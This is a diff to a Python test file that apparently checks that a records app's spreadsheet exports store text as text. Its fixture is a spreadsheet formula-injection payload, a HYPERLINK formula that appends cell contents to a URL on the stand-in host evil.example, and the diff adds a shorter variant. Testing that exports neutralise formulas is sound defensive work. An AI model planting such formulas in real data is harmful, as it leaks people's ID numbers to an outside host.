@@ -46,6 +46,7 @@ ROOT = Path(__file__).parents[2]
 PASSWORD = "Tà-Lài-rà-soát-2026"
 ID_TL, ID_DL = "075080001234", "075080004321"
 FORMULA = '=HYPERLINK("http://evil.example/?"&C4&D4,"Bấm vào đây")'
+SHORT_FORMULA = '=HYPERLINK("http://x.vn","Mạ")'  # in a field of 40 characters
 
 
 def benchmark(name: str):
@@ -545,7 +546,7 @@ def test_every_workbook_writes_text_as_text(people, tmp_path):
     link, beside the ID numbers."""
     users, review = people
     head = Member.objects.get(household__code="TL-1", relation="head")
-    Member.objects.filter(pk=head.pk).update(full_name=FORMULA, ethnicity=FORMULA)
+    Member.objects.filter(pk=head.pk).update(full_name=FORMULA, ethnicity=SHORT_FORMULA)
     Household.objects.filter(code="TL-1").update(address=FORMULA, notes=FORMULA)
     Household.refresh_search_text(head.household_id)
     Unit.objects.filter(code="26131-04").update(name=FORMULA)
